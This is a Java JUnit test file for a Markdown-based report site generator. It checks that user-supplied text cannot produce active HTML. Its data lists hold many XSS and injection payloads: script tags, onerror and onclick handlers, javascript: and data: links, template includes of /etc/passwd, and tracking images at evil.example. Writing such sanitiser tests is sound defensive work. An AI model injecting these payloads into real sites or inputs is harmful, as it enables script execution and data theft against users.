package caravan.report.page;

import static org.assertj.core.api.Assertions.assertThat;

import caravan.testing.Reports;
import caravan.text.diagnostic.Checked;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Content comes from strangers: whatever they write, the page runs nothing and leads nowhere bad.
 */
class HostileContentTest {
  private static final Set<String> ACTIVE =
      Set.of(
          "iframe",
          "object",
          "embed",
          "form",
          "base",
          "applet",
          "frame",
          "math",
          "template",
          "noscript",
          "portal",
          "marquee",
          "audio",
          "video",
          "input",
          "textarea",
          "select");

  @TempDir Path root;

  /** Texts that pass for inline Markdown; each is put into every place a text can stand. */
  static List<String> texts() {
    return List.of(
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)><animate onbegin=alert(1)></svg>",
        "<style>*{background:url(//evil.example)}</style>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "\"><script>alert(1)</script><p title=\"",
        "' onmouseover='alert(1)' x='",
        "\" onmouseover=\"alert(1)\" x=\"",
        "--><script>alert(1)</script><!---->",
        "&gt;&gt;<script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</desc></svg><script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "${7*7}<#assign x=1>#{1}[=1]",
        "<#include \"/etc/passwd\">",
        "\uE0000\uE002 \uE0010\uE002 \uE000",
        "&#xE000;0&#xE002; &#xE001;0&#xE002;",
        "&#57344;0&#57346; &#xe000;x&#xe002; &#x000E000;",
        "\u202Etxt.exe\u2066 \u0001\u0008\u001B \uFFFE \uFEFF");
  }

  /** Bodies that must not build at all, or else build into something harmless. */
  static List<String> bodies() {
    return List.of(
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](<java\nscript:alert(1)>)",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A&#x61;vascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](\u0001javascript:alert(1))",
        "[x](%6aavascript:alert(1))",
        "[x](\\javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:msgbox)",
        "[x](file:///etc/passwd)",
        "[x](//evil.example)",
        "[x](\\\\evil.example)",
        "[x](/\\evil.example)",
        "[x](https:javascript:alert(1))",
        "[x](<https://a.example/\" onclick=\"alert(1)>)",
        "[x](https://a.example \"\\\" onclick=alert(1) x=\\\"\")",
        "[x]: javascript:alert(1)\n\n[x]",
        "[x]\n\n[x]: <data:text/html;base64,PHNjcmlwdD4=> \"t\"",
        "<javascript:alert(1)>",
        "<data:text/html,x>",
        "<a@b.example\"onclick=alert(1)>",
        "![x](javascript:alert(1))",
        "![x](https://evil.example/track.png)",
        "![x](//evil.example/track.png)",
        "![\" onerror=\"alert(1)](../assets/a.png)",
        "![x](../assets/a.png \"\\\" onload=alert(1)\")",
        "![a [b](javascript:alert(1))](../assets/a.png)",
        "[![x](../assets/a.png)](https://a.example)",
        "[[x](https://a.example)](https://b.example)",
        "[<b onclick=alert(1)>](https://a.example)",
        "[<script>](=t.KAZ@2025==3e9USD)",
        "[3<script>alert(1)</script>](=t.KAZ@2025)",
        "[](=t.KAZ@2025 \"<script>\")",
        "[@a, <script>alert(1)</script>]",
        "[see <img src=x onerror=alert(1)> @a]",
        "```x\" onclick=\"alert(1)\n<script>\n```",
        "```<script>alert(1)</script>\nx\n```",
        "```&#xE000;0&#xE002;\nx\n```",
        "`<script>` [3](=t.KAZ@2025) `&#xE000;0&#xE002;`",
        "| <script> | b |\n| - | :-: |\n| <img src=x onerror=alert(1)> | \" onclick=\" |",
        "x[^1]\n\n[^1]: <script>alert(1)</script>",
        "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: y",
        "# <script>alert(1)</script> \"x\" 'y'\n\n## \" onclick=\"alert(1)",
        "# x {#id onclick=alert(1)}\n\n[x](https://a.example){onclick=alert(1)}",
        "<div onclick=alert(1)>\n\n[3](=t.KAZ@2025)\n\n</div>",
        "<!-- <script> -->\n<?php x ?>\n<!DOCTYPE html>\n<![CDATA[<script>]]>",
        "> [!NOTE] <script>alert(1)</script>\n> x",
        "> [!\"><script>]\n> x",
        "- <svg onload=alert(1)>\n  - <math><mi//xlink:href=\"data:x,<script>\">",
        "&#xE000;0&#xE002;[3](=t.KAZ@2025)&#xE001;0&#xE002; &#xE000;99999999999&#xE002; &#xE000;");
  }

  @ParameterizedTest
  @MethodSource("bodies")
  void noBodyDoesHarm(String body) throws IOException {
    Reports.write(root, Map.of("en/index.md", "---\ntitle: T\n---\n\n" + body + "\n"));
    Files.createDirectories(root.resolve("content/assets"));
    Files.write(root.resolve("content/assets/a.png"), new byte[] {1});

    Checked<?> built = Reports.build(root, 1);

    if (built.diagnostics().stream().noneMatch(d -> d.isError())) {
      assertHarmless(root.resolve("site/en/index.html"));
      assertThat(Files.readString(root.resolve("site/en/index.html")))
          .doesNotContain("\uE000", "\uE001", "\uE002");
    } else {
      assertThat(root.resolve("site/en/index.html")).doesNotExist();
    }
  }

  @ParameterizedTest
  @MethodSource("texts")
  void noTextDoesHarmWhereverItStands(String text) throws IOException {
    String quoted =
        "'"
            + text.replace("'", "''")
                .replace("\u0001", "")
                .replace("\u0008", "")
                .replace("\u001B", "")
                .replace("\uFFFE", "")
            + "'";
    String title = text.contains("<a href") ? "'x'" : quoted;
    Map<String, String> files = new HashMap<>();
    files.put(
        "site.yaml",
        "title: "
            + quoted
            + "\ndescription: "
            + quoted
            + "\nlanguages: [en]\npublisher: {name: "
            + quoted
            + "}\nlicence: "
            + quoted
            + "\n");
    files.put(
        "sources.yaml",
        "references:\n- id: a\n  type: webpage\n  title: "
            + quoted
            + "\n  issued: 2025\n  note: "
            + quoted
            + "\n  publisher: "
            + quoted
            + "\n  author: [{literal: "
            + quoted
            + "}]\n");
    files.put("codelists.yaml", "partner:\n  KAZ: {en: " + quoted + "}\n  KGZ: {en: Kyrgyzstan}\n");
    files.put(
        "data/t.yaml",
        "title: "
            + quoted
            + "\ndescription: "
            + quoted
            + "\nnote: "
            + quoted
            + "\nunit: USD\nmultiplier: 1e9\ndimensions: [partner]\nsource: a\nobservations:\n"
            + "  KAZ: {2023: 1, 2024: 2, 2025: {value: 3, note: "
            + quoted
            + "}}\n"
            + "  KGZ: {2023: 1, 2024: 2, 2025: 3}\n");
    files.put(
        "en/index.md",
        "---\ntitle: "
            + title
            + "\nlinkTitle: "
            + quoted
            + "\ndescription: "
            + quoted
            + "\n---\n\n"
            + text
            + "\n\n## "
            + text
            + "\n\n[x "
            + text
            + "](=t.KAZ@2025==3e9USD) [3](=t.KAZ@2025) [@a]\n\n"
            + "```chart\nid: fig-x\ntype: line\ntitle: "
            + title
            + "\nsubtitle: "
            + quoted
            + "\nseries: [t.KAZ@2023..2025, t.KGZ@2023..2025]\nalt: "
            + quoted
            + "\nnote: "
            + quoted
            + "\n```\n");
    Reports.write(root, files);

    Checked<?> built = Reports.build(root, 1);

    assertThat(
            built.diagnostics().stream().filter(d -> d.isError()).map(d -> d.span() + d.message()))
        .isEmpty();
    assertHarmless(root.resolve("site/en/index.html"));
  }

  /** Nothing where something is expected must not end the program either. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "en/index.md|---\ntitle: ' '\n---\n",
        "en/index.md|---\ntitle: '&nbsp;'\n---\n",
        "en/index.md|---\ntitle: '[x]: y'\n---\n",
        "en/index.md|---\ntitle: '***'\n---\n",
        "en/index.md|---\ntitle: T\nlinkTitle: ' '\ndescription: ''\n---\n",
        "en/index.md|---\ntitle: T\n---\n#\n\n##\n\n## &nbsp;\n\n## ![](../assets/a.png)\n\n## x\n",
        "en/index.md|---\ntitle: T\n---\n[ ](=t.KAZ@2025) [&nbsp;](=t.KAZ@2025==3e9USD)\n",
        "en/index.md|---\n"
            + "title: T\n"
            + "---\n"
            + "```chart\n"
            + "id: fig-x\n"
            + "type: line\n"
            + "title: ' '\n"
            + "subtitle: ''\n"
            + "series: t.KAZ\n"
            + "alt: ''\n"
            + "note: ' '\n"
            + "```\n",
        "site.yaml|title: ' '\nlanguages: [en]\n",
        "site.yaml|title: {en: ''}\nlanguages: [en]\npublisher: {name: ' '}\nlicence: ' '\n",
        "codelists.yaml|partner:\n  KAZ: {en: ' '}\n  KGZ: {en: ''}\n",
        "sources.yaml|references:\n- id: a\n  type: webpage\n  title: ' '\n  issued: ''\n"
      })
  void emptyTextsAreErrorsOrNothing(String file) throws IOException {
    String page =
        "---\ntitle: T\n---\n[3](=t.KAZ@2025) [@a]\n\n```chart\nid: fig-x\ntype: line\ntitle: T\n"
            + "series: [t.KAZ, t.KGZ]\n```\n";
    Map<String, String> files = new HashMap<>(Map.of("en/index.md", page));
    int bar = file.indexOf('|');
    files.put(file.substring(0, bar), file.substring(bar + 1));
    Reports.write(root, files);
    Files.createDirectories(root.resolve("content/assets"));
    Files.write(root.resolve("content/assets/a.png"), new byte[] {1});

    Checked<?> built = Reports.build(root, 1);

    boolean wrong = built.diagnostics().stream().anyMatch(d -> d.isError());
    assertThat(Files.exists(root.resolve("site/en/index.html"))).isNotEqualTo(wrong);
  }

  @Test
  void aReferenceToAMarkIsShownAsAReplacementCharacter() {
    assertThat(Pages.of("&#xE000;0&#xE002; &#xe0001; &#57345;").html())
        .isEqualTo("<p>\uFFFD0\uFFFD " + Character.toString(0xe0001) + " \uFFFD</p>\n");
  }

  private static void assertHarmless(Path page) throws IOException {
    String html = Files.readString(page);
    Document document = Jsoup.parse(html);
    for (Element script : document.select("script")) {
      if (script.hasAttr("src")) {
        assertThat(script.attr("src")).matches("\\.\\./theme/[a-z-]+\\.[0-9a-f]{10}\\.js");
        assertThat(script.data()).isEmpty();
      } else {
        // The page's own data, which no browser runs.
        assertThat(script.attr("type")).isEqualTo("application/ld+json");
      }
    }
    // Those that the program puts there itself: the search, the periods of a chart to choose from.
    document.select("script[src], body > dialog.search").remove();
    document.select("fieldset.readings > input[type=radio]").remove();
    for (Element element : document.getAllElements()) {
      assertThat(ACTIVE).doesNotContain(element.tagName().toLowerCase(Locale.ROOT));
      assertThat(element.tagName()).matches("[a-zA-Z][a-zA-Z0-9]*|#root");
      for (Attribute attribute : element.attributes()) {
        assertAttribute(element, attribute);
      }
    }
    assertThat(document.select("style").html()).doesNotContain("evil.example");
    assertThat(document.select("[id]").eachAttr("id")).doesNotHaveDuplicates();
  }

  private static void assertAttribute(Element element, Attribute attribute) {
    String name = attribute.getKey().toLowerCase(Locale.ROOT);
    assertThat(name).matches("[a-z][a-z0-9:-]*").doesNotStartWith("on").isNotEqualTo("srcdoc");
    if (Set.of("href", "src", "action", "xlink:href", "formaction", "data").contains(name)) {
      String value = attribute.getValue().strip().toLowerCase(Locale.ROOT);
      assertThat(value).doesNotStartWith("//").doesNotStartWith("\\");
      if (value.matches("^[^/?#]*:.*")) {
        assertThat(value).matches("(?s)(https?|mailto):.*");
        assertThat(element.tagName()).isIn("a", "link");
      }
    }
    if (name.equals("http-equiv")) {
      assertThat(attribute.getValue()).isNotEqualToIgnoringCase("refresh");
    }
  }
}
